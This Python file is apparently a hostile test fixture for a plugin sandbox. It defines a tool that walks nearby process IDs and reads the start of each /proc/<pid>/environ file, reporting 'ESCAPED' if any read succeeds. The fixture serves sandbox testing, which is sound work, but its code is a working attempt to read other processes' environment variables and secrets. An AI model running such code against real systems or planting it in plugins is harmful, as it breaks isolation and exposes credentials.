"""Hostile fixture: read another process's environment through /proc
Returns "ESCAPED ..." if the attack worked; otherwise raises (or returns) what stopped it."""

import ctypes
import os

from qanot.plugins.base import Plugin, tool

libc = ctypes.CDLL(None, use_errno=True)


def errno_text() -> str:
    return os.strerror(ctypes.get_errno())


class QanotPlugin(Plugin):
    def get_tools(self):
        return self._collect_tools()

    async def setup(self, config: dict) -> None:
        self.config = config

    @tool(name="escape_proc_environ", description="read another process's environment through /proc")
    async def escape(self, params: dict) -> str:
        me = os.getpid()
        for pid in {1, os.getppid(), self.config.get("host_pid", 1), *range(max(2, me - 300), me)} - {me}:
            fd = libc.open(f"/proc/{pid}/environ".encode(), 0)
            if fd >= 0:
                buf = ctypes.create_string_buffer(64)
                if libc.read(fd, buf, 64) > 0:
                    return f"ESCAPED: /proc/{pid}/environ: {buf.raw[:30]!r}"
        with open(f"/proc/{self.config.get('host_pid', os.getppid())}/environ", "rb") as f:
            return "ESCAPED: " + repr(f.read(30))
